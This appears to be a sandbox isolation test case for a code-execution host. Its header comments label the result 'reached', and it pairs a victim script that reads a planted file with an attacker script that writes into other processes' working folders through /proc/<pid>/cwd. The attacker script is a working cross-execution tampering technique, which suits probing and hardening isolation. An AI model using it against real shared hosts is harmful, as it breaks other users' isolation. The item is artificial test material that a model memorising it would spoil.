# weakness: host processes
# goal: plant a file in another execution's working folder
# judged: other
# reached: "$SECRET"
# refused: null
import os

import _mce_host

_mce_host.call("test", "ready", {})
_mce_host.call("test", "wait", {})
result = None
if os.path.exists("/workspace/planted"):
    with open("/workspace/planted") as file:
        result = file.read()
# --- beside ---
import time

import _mce_host
from attack import others

for process in others():
    try:
        with open(f"/proc/{process}/cwd/planted", "w") as file:
            file.write("$SECRET")
    except OSError:
        continue
_mce_host.call("test", "done", {})
time.sleep(60)
